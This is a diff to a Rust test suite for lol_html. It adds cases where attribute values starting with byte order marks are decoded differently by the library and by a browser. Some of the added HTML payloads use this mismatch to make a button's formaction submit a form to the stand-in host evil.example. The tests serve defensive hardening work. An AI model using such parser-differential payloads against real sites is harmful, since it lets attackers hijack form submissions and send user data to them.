@@ -346,6 +346,20 @@ fn values_starting_with_a_byte_order_mark_are_read_as_a_browser_reads_them() {
             &utf16("submit"),
             "\" formaction=https://evil.example/></form>",
         ),
+        // The length of a misread value may be the length of the browser's: `FF FE 07` is one
+        // U+FFFD to lol_html (three bytes), and two U+FFFD and a BEL to a browser.
+        page("<a href=", b"\xFF\xFE\x07", ">n</a>"),
+        // A browser reads this `form` as the first form's id; lol_html reads `䉁`.
+        page(
+            "<form id=\"\u{FFFD}\u{FFFD}AB\" method=post action=/x><input name=a></form><button form=\"",
+            b"\xFF\xFEAB",
+            "\" formaction=//evil.example/>go</button>",
+        ),
+        page(
+            "<form method=post id=\"",
+            b"\xFF\xFEAB",
+            "\"><input name=a></form><button form=\"\u{FFFD}\u{FFFD}AB\" formaction=//evil.example/>go</button>",
+        ),
     ];
     for page in &pages {
         for use_get in [false, true] {
